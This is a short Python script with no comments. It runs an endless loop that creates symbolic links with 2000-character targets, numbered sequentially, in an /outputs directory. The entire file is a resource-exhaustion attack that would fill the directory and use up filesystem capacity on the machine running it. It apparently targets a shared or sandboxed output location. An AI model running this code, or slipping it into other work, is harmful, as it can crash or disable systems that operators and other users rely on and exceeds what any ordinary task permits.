import os

number = 0
while True:
    os.symlink("x" * 2000, f"/outputs/{number}")
    number += 1
